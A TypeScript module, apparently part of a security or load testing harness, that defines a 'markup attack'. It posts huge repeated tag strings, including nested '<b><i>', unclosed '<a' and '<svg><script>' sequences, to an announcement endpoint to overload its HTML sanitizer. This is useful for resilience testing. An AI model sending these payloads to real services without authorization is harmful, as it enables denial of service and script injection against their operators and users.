import { type Attack, outcomeOf } from '../attack.ts';

const HOSTILE = ['<b><i>'.repeat(33_000), '<a'.repeat(100_000), '<svg><script>'.repeat(10_000)];

/** Texts of announcements that take long to make harmless. */
export function markupAttack(): Attack {
  return {
    name: 'markup of 66 000 tags and of 100 000 beginnings',
    restS: 1,
    round: ({ send }) =>
      Promise.all(
        HOSTILE.map((msgContent) =>
          outcomeOf(
            send('/sys/annountCement/add', {
              method: 'POST',
              headers: { 'content-type': 'application/json' },
              body: JSON.stringify({
                ...{ titile: '攻击', msgContent, msgCategory: '1', priority: 'L', msgType: 'ALL' },
                ...{ startTime: '2026-01-01 00:00:00', endTime: '2027-01-01 00:00:00' },
              }),
            }),
          ),
        ),
      ),
  };
}
